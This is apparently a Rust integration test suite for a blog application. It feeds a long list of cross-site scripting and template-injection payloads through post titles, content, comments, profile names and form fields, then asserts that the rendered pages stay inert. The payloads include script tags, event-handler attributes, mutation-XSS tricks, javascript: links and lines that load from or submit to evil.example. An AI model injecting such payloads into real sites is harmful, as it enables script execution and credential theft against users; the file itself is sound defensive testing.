//! Strings that mean harm, through every field of the public pages: they are shown, and do nothing.

use std::time::Duration;

use reqwest::Method;
use scraper::{Html, Selector};
use serde_json::json;

use super::blog::{page_of, say, start, write};
use super::pages::{Who, window};
use crate::content::strings;
use crate::harness::client::Client;
use crate::harness::{Backend, Page, TestApp, Visitor};

on_both!(
    whatever_is_previewed_is_harmless,
    whatever_is_written_is_shown_and_does_nothing,
    whatever_is_typed_stands_in_the_form_again,
    a_browser_runs_nothing_of_it,
);

/// Ways by which text has become script elsewhere: tags, attributes, addresses, mutations of what a parser mends, comments,
/// other namespaces, templates, and Markdown that grows into them.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)' style=\"width:100%\">",
    "<img src=/ onload\n=\n'alert(1)'>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>press</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p id=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example/x)\">over all</div>",
    "<form action=//evil.example><input name=csrf><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">press</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">press</a>",
    "<a href=\"java&#x09;script:alert(1)\">press</a>",
    "<a href=\" &#14; javascript:alert(1)\">press</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">press</a>",
    "<a href=\"vbscript:msgbox(1)\">press</a>",
    "<a href=\"https://evil.example\" target=_blank ping=//evil.example>press</a>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](<javascript:alert(1)>)",
    "[press](javascript&colon;alert(1))",
    "[press](java\u{0}script:alert(1))",
    "[press]( &#x01;javascript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](//evil.example/login)",
    "[press](/\\evil.example)",
    "[press][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](/x.png)",
    "![x](/x.png \"t\\\" onerror=\\\"alert(1)\")",
    "[a](https://x.example \"\" onmouseover=alert(1) \")",
    "`<script>alert(1)</script>`",
    "```html\"><script>alert(1)</script>\nx\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{202e}<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} %s %n %x",
    "javascript:alert(1)",
];

fn all() -> Vec<String> {
    VECTORS.iter().map(ToString::to_string).chain(strings()).collect()
}

/// S24: what stands within `css` is of elements that only show, with addresses that lead where a person sees.
pub(super) fn assert_inert(html: &str, css: &str, from: &str) {
    const SHOWN: &str = "p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em strong del s sub sup ul ol li dl dt dd table thead tbody \
        tr th td a img div span section article input";
    const SAID: &[&str] = &[
        "href",
        "rel",
        "src",
        "alt",
        "title",
        "id",
        "class",
        "width",
        "height",
        "loading",
        "align",
        "start",
        "type",
        "checked",
        "disabled",
        "aria-labelledby",
    ];
    let document = Html::parse_document(html);
    let within = Selector::parse(&format!("{css} *")).unwrap();
    for element in document.select(&within) {
        let name = element.value().name();
        assert!(SHOWN.split_whitespace().any(|known| known == name), "{name} of {from:?}: {html}");
        assert!(name != "input" || element.attr("type") == Some("checkbox"), "{from:?}: {html}");
        for (attribute, value) in element.value().attrs() {
            assert!(SAID.contains(&attribute), "{attribute} of {from:?}: {html}");
            let value = value.trim().to_lowercase();
            let is_here = value.starts_with('/') && !value.starts_with("//") && !value.starts_with("/\\");
            let leads =
                ["http://", "https://", "mailto:", "#"].iter().any(|scheme| value.starts_with(scheme));
            assert!(attribute != "href" || is_here || leads, "{value} of {from:?}");
            assert!(attribute != "src" || is_here, "{value} of {from:?}");
        }
    }
}

/// Pages of ours bring nothing along that the strings would have brought.
fn assert_page_inert(page: &Page) {
    assert!(
        page.attributes("script", "src").iter().all(|script| script.starts_with("/assets/")),
        "{}",
        page.path
    );
    for css in [".prose", ".card", "h1"] {
        let document = page.text.replace("<ul class=\"actions\">", "<ul>");
        assert_inert(&strip_times(&document), css, &page.path);
    }
    for form in page.forms() {
        assert!(form.action.starts_with('/') && !form.action.starts_with("//"), "{}", form.action);
    }
}

/// Dates and labels are ours.
fn strip_times(html: &str) -> String {
    html.replace("<time", "<span class=\"time\"")
        .replace("</time>", "</span>")
        .replace(" datetime=", " title=")
        .replace(" aria-label=", " title=")
}

/// S24: the very HTML that posts are shown as.
async fn whatever_is_previewed_is_harmless(backend: Backend) {
    let app = start(backend).await;
    let alice = app.visitor_signed_in("alice").await;
    let csrf = alice.csrf().await;
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    for text in all() {
        let fields = [("csrf", &*csrf), ("title", &*text), ("content", &*text)];
        let request = alice.request(Method::POST, "/blog/preview").form(&fields).build().unwrap();
        let answer = http.execute(request).await.unwrap();
        // No form can send a NUL.
        if text.contains('\0') || text.contains('\u{fffd}') {
            assert_eq!(answer.status().as_u16(), 400, "{text:?}");
            continue;
        }
        assert_eq!(answer.status().as_u16(), 200, "{text:?}");
        let html = answer.text().await.unwrap();
        assert_inert(&html, "body", &text);
        let title = Html::parse_fragment(&html);
        let title: String =
            title.select(&Selector::parse(".preview-title").unwrap()).flat_map(|it| it.text()).collect();
        assert_eq!(title, text.trim().replace('\r', "\n"), "{text:?}");
    }
}

/// A blog whose every word means harm: posts of these titles and texts, and a post with comments of them, by somebody whose name
/// means it too. Answers the posts' pages.
async fn furnish(app: &TestApp, alice: &Client) -> Vec<String> {
    let name = json!({ "full_name": "</span><script>alert(1)</script><img src=x onerror=alert(1)>" });
    alice.patch("/api/auth/profile", name).await.assert_status(200);
    let mut pages = Vec::new();
    let (mut titles, texts) = (all().into_iter().filter(|text| is_title(text)), all());
    // What opens a block and does not close it would hide what follows, so those that mean harm stand alone.
    let (harmful, others) = texts.split_at(VECTORS.len());
    let grouped = others.chunks(40).map(|texts| texts.join("\n\n"));
    for content in harmful.iter().cloned().chain(grouped).map(|content| content.replace('\0', "")) {
        app.clock.advance(Duration::from_secs(1));
        pages.push(page_of(&write(alice, &titles.next().unwrap(), &content, "published").await));
    }
    let talk = write(alice, VECTORS[0], "A talk.", "published").await;
    for texts in all().chunks(20) {
        say(alice, &talk, &texts.join("\n\n").replace('\0', "")).await;
    }
    pages.push(page_of(&talk));
    pages
}

fn is_title(text: &str) -> bool {
    text.parse::<vestibule_domain::post::Title>().is_ok()
}

/// Each page of a list.
async fn pages_of(visitor: &Visitor, first: &str) -> Vec<Page> {
    let mut pages = vec![visitor.get(first).await];
    while let Some(next) = pages.last().unwrap().attribute(".pager a[rel=next]", "href") {
        pages.push(visitor.get(next.trim_end_matches("#comments")).await);
    }
    pages
}

/// S24, S91
async fn whatever_is_written_is_shown_and_does_nothing(backend: Backend) {
    let app = start(backend).await;
    let alice = app.signed_in("alice").await;
    let written = furnish(&app, &alice).await;
    let (stranger, author) = (app.visitor(), app.visitor_signed_in("alice").await);
    let lists = pages_of(&stranger, "/blog").await;
    let titles: Vec<_> = lists.iter().flat_map(|page| page.texts("article h2")).collect();
    assert_eq!(titles.len(), written.len());
    for page in lists.iter().chain(&pages_of(&author, "/blog").await) {
        page.assert_status(200);
        assert_page_inert(page);
    }
    let mut seen = String::new();
    for path in &written {
        for visitor in [&stranger, &author] {
            for page in pages_of(visitor, path).await {
                page.assert_status(200);
                assert_page_inert(&page);
                assert!(titles.contains(&page.heading()), "{}", page.heading());
                seen.push_str(&page.words("h1"));
                seen.push_str(&page.texts(".comment p").join("\n"));
            }
        }
    }
    for literal in [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "%s %n %x",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
    ] {
        assert!(seen.contains(literal), "{literal}");
    }
    let edit = author.get(&format!("{}/edit", written[0])).await;
    assert_eq!(edit.form(&format!("{}/edit", written[0])).value("content").trim_start(), VECTORS[0]);
    let delete = author.get(&format!("{}/delete", written[0])).await;
    assert!(delete.assert_status(200).words("main p").contains(&titles[titles.len() - 1]), "{}", delete.text);
}

/// S24: what is handed back to be mended is the text and nothing more.
async fn whatever_is_typed_stands_in_the_form_again(backend: Backend) {
    let app = start(backend).await;
    let visitor = app.visitor();
    let form = visitor.get("/contact").await.form("/contact");
    let alice = app.visitor_signed_in("alice").await;
    let post = alice.get("/blog/new").await.form("/blog/new");
    // One door of escaping serves all fields: some of the list are enough here.
    let texts = VECTORS.iter().map(ToString::to_string).chain(strings().into_iter().step_by(5));
    for text in &texts.filter(|text| !text.contains(['\0', '\u{fffd}', '\r'])).collect::<Vec<_>>() {
        let typed = form
            .clone()
            .fill("name", text)
            .fill("subject", text)
            .fill("message", text)
            .fill("email", "nobody");
        let page = typed.send().await;
        page.assert_status(422);
        let again = page.form("/contact");
        for field in ["name", "subject", "message"] {
            assert_eq!(without_first_break(again.value(field)), text, "{field}");
        }
        assert!(page.attributes("script", "src").iter().all(|script| script.starts_with("/assets/")));
        let search = visitor.get("/states").await.form("/states").fill("q", text).send().await;
        assert_eq!(search.assert_status(200).form("/states").value("q"), text.trim());
        let page = post.clone().fill("title", text).fill("content", "").send().await;
        assert_eq!(page.assert_status(422).form("/blog/new").value("title"), text);
    }
}

/// The first line break of an area is the page's and not of its text.
fn without_first_break(text: &str) -> &str {
    text.strip_prefix('\n').unwrap_or(text)
}

/// S24, S25, S93: in a real browser no dialog opens, the policy has nothing to block, and nothing is asked for elsewhere.
async fn a_browser_runs_nothing_of_it(backend: Backend) {
    let app = start(backend).await;
    let ada = app.signed_in("ada").await;
    let written = furnish(&app, &ada).await;
    let browser = window(&app, Who::Member).await;
    // The vectors stand alone on their pages; a few pages show them all: those of the list, the talk, and every tenth post.
    let list: Vec<_> = pages_of(&app.visitor(), "/blog").await.into_iter().map(|page| page.path).collect();
    let talk = pages_of(&app.visitor(), written.last().unwrap()).await.into_iter().map(|page| page.path);
    let posts =
        written.iter().take(VECTORS.len()).step_by(10).chain(written.iter().skip(VECTORS.len()).step_by(4));
    for path in list.iter().cloned().chain(talk).chain(posts.cloned()) {
        browser.goto(&path).await;
        assert_eq!((browser.status(), browser.violations_of_policy()), (200, Vec::new()), "{path}");
    }
    browser.goto(&format!("{}/edit", written[0])).await;
    browser.fill("title", VECTORS[5]).await;
    browser.fill("content", &VECTORS.join("\n\n").replace('\0', "")).await;
    browser.press("Preview").await;
    browser.wait_for("#preview .prose").await;
    assert_eq!(browser.violations_of_policy(), [""; 0]);
    for address in browser.asked() {
        let is_ours = address.starts_with(app.base()) || address.starts_with("data:image/");
        assert!(is_ours, "{address}");
    }
}
